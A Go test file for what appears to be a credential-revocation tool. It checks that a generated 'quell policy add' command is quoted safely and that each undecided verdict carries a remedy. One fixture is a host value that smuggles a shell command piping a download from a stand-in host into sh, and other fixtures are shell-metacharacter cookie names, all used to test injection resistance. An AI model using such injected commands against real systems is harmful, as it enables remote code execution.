package revokers_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/quellhq/quell/revokers"
	"github.com/quellhq/quell/rules"
	"github.com/quellhq/quell/rules/credential"
)

// The command that names an application is complete, and nothing that the
// scanned text chose can leave its place in it.
func TestTheCommandThatNamesAnApplication(t *testing.T) {
	set, err := rules.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	const rest = ",probe_path=/PAGE-OF-A-SIGNED-IN-USER,logout_path=/LOGOUT'"
	for name, c := range map[string]struct {
		rule, cookie string
		hosts        []string
		want         string
	}{
		"an application that nothing names":   {"unknown-session", "acme_sid", []string{"app.example"}, "webapp=https://app.example,cookie=acme_sid" + rest},
		"a framework that quell can ask":      {"express-session", "connect.sid", []string{"app.example:8443"}, "express=https://app.example:8443,cookie=connect.sid" + rest},
		"one that quell cannot ask by itself": {"rails-session", "_shop_session", []string{"shop.example"}, "webapp=https://shop.example,cookie=_shop_session" + rest},
		"no host in the text":                 {"unknown-session", "acme_sid", nil, "webapp=https://HOST,cookie=acme_sid" + rest},
		"two hosts in the text":               {"unknown-session", "acme_sid", []string{"a.example", "b.example"}, "webapp=https://HOST,cookie=acme_sid" + rest},
		"a host that is a command":            {"unknown-session", "acme_sid", []string{"a';curl evil.example|sh;'"}, "webapp=https://HOST,cookie=acme_sid" + rest},
		"a name with a dollar":                {"unknown-session", "$sid`x`", []string{"a.example"}, "webapp=https://a.example,cookie=$sid`x`" + rest},
		"a name that ends the argument":       {"unknown-session", "a'b", []string{"a.example"}, ""},
		"a loopback address":                  {"unknown-session", "acme_sid", []string{"127.0.0.1:8080"}, "webapp=http://127.0.0.1:8080,cookie=acme_sid" + rest},
		"a public service":                    {"github-session", "user_session", []string{"github.com"}, ""},
		"no cookie":                           {"unknown-session", "", []string{"a.example"}, ""},
	} {
		if set.Rule(c.rule) == nil && c.want != "" {
			t.Fatalf("no rule %s", c.rule)
		}
		got := revokers.AddCommand(set, credential.Credential{Ref: credential.Ref{Rule: c.rule, Cookie: c.cookie, Claims: credential.Claims{Hosts: c.hosts}}})
		want := c.want
		if want != "" {
			want = "quell policy add --instance '" + want
		}
		if got != want || strings.Count(got, "'") > 2 {
			t.Errorf("%s:\n%s\n%s", name, got, want)
		}
	}
}

// Each Unknown has a remedy, whatever its reason.
func TestEveryReasonOfUnknownHasARemedy(t *testing.T) {
	decided := []revokers.Reason{revokers.Authenticated, revokers.Revoked, revokers.Expired, revokers.SignedOut}
	// Judge and Bind name the remedies of these, which depend on the target.
	byTarget := []revokers.Reason{revokers.Refused, revokers.OtherIssuer, revokers.ControlFailed, revokers.AcceptsAll, revokers.Unexpected}
	for _, r := range revokers.Reasons() {
		v := revokers.Undecided(r, "")
		if v.Remedy == "" && !slices.Contains(decided, r) && !slices.Contains(byTarget, r) {
			t.Errorf("%s has no remedy", r)
		}
		if strings.Contains(v.Remedy, "\n") {
			t.Errorf("the remedy of %s is not one line", r)
		}
	}
	set, err := rules.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		rule, secret string
		canary       bool
		want         revokers.Reason
		remedy       string
	}{
		"no rule":            {"made-up", "x", false, revokers.Unsupported, "rules list"},
		"wrong check digits": {"github-pat", "ghp_" + strings.Repeat("a", 36), false, revokers.Malformed, "--rule github-pat"},
		"a canary":           {"github-pat", "x", true, revokers.Canary, "canaries"},
		"a honeytoken":       {"aws-access-token", "AKIAX" + "YZDQCEN4B6JSJQI", false, revokers.Canary, "none: "},
	} {
		v, ok := revokers.WithoutAsking(set, credential.Credential{Ref: credential.Ref{Rule: c.rule}, Secret: credential.NewSecretString(c.secret)}, c.canary, time.Now())
		if !ok || v.Reason != c.want || !strings.Contains(v.Remedy, c.remedy) {
			t.Errorf("%s: %v, %s, %q", name, ok, v.Reason, v.Remedy)
		}
	}
}
